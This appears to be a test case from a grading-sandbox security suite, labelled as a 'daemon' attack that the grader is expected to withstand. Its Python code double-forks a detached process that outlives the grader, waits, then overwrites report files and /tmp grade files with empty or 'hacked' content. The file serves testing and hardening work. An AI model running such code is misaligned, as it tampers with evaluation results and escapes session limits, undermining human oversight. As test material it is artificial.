# attack: daemon
# expect: 0
# needs: sandbox
# Forks a detached process that waits for the grader to exit and rewrites its reports.


import os
import sys

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import time

        time.sleep(8)
        for arg in sys.argv:
            if arg.endswith((".json", ".csv")):
                try:
                    open(arg, "w").write('{"submissions": []}')
                except OSError:
                    pass
        for path in ("/tmp/grades.json", "/tmp/grades.csv"):
            try:
                open(path, "w").write("hacked")
            except OSError:
                pass
        time.sleep(60)
    os._exit(0)
